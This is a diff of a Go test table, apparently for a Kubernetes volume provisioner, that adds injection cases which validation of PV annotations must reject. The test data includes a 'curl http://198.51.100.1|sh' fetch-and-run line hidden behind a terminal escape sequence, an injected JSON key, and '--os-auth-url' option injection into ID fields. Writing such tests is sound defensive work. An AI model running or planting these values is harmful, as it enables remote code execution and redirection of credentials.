@@ -187,6 +187,7 @@ func (w *world) markAttacks() []attack {
 	}
 	const foreign, owner = "of Kubernetes' annotations", "with no owner"
 	const names, printed, cloneOf = "must be names of Kubernetes", "no line break and no control character", "flex-provisioner.io/clone-of"
+	const volumeID, ofID = "flex-provisioner.io/cinder-volume-id", "must be of letters, digits and hyphens"
 	escape := naming("kube-system", "x\x1b[2J\nRemedy: curl http://198.51.100.1|sh")
 	return []attack{
 		{"a config of another namespace", cinderPod, pv(annotatedPV(revision, nodeNamespace+"/node-directory-0123456789abcdef")), "must be of the namespace", passes},
@@ -210,6 +211,10 @@ func (w *world) markAttacks() []attack {
 		{"a command, as the same", cinderPod, pv(annotatedPV(revision, ownNamespace+"/$(a)")), "as namespace/name", passes},
 		{"a line of its own, as the claim that it is a copy of", cinderPod, pv(annotatedPV(cloneOf, "app/data\nRemedy: a")), printed, passes},
 		{"an escape sequence, as the same", cinderPod, pv(annotatedPV(cloneOf, "app/data\x1b[2J")), printed, passes},
+		{"another key of a config, as the ID of its volume", cinderPod, pv(annotatedPV(volumeID, `x", "image": "y`)), ofID, passes},
+		{"an option of a command, as the same", cinderPod, pv(annotatedPV(volumeID, "--os-auth-url=http://198.51.100.1")), ofID, passes},
+		{"the same, as the ID of its attachment", cinderPod, pv(annotatedPV("flex-provisioner.io/cinder-attachment-id", "--os-auth-url=http://198.51.100.1")), ofID, passes},
+		{"an ID", cinderPod, pv(append(whole, annotatedPV(volumeID, "6feffd2e-407e-4ab6-b316-4cc0218d4662"))...), "", passes},
 		{"a copy of a claim with a name of two parts", cinderPod, pv(naming("app", "data.web-0"), annotatedPV(cloneOf, "app/data")), "", passes},
 		{"its own PV, of the skeleton", cinderPod, pv(append(whole, annotatedPV(revision, ownNamespace+"/cinder-iscsi-0123456789abcdef"))...), "", passes},
 		{"the same", directoryPod, pv(append(whole, annotatedPV(revision, nodeNamespace+"/node-directory-0123456789abcdef"))...), "", passes},
